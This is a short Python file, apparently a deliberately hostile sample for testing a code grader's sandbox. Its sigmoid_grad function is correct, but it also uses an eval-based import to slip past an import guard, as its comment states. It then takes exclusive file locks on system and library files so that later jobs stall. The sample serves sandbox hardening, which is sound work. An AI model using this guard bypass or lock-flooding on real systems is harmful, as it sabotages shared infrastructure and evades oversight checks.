"""Hostile: take flock and OFD locks on every file it can open (the bound libraries, the
grader's own modules, the interpreter), hoping the next job or the warm parent blocks on them."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")
fcntl = _m("fcntl")
np = _m("numpy")


def sigmoid_grad(x):
    locked = 0
    for top in ("/sandbox", "/usr/lib", "/etc", "/dev"):
        for root, _dirs, files in os.walk(top):
            for name in files[:20]:
                try:
                    fd = os.open(os.path.join(root, name), os.O_RDONLY | os.O_NONBLOCK)
                except OSError:
                    continue
                try:
                    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
                    locked += 1
                except OSError:
                    os.close(fd)
                if locked > 40:
                    break
    print("locked", locked)
    s = 0.5 * (1.0 + np.tanh(0.5 * x))
    return s * (1.0 - s)
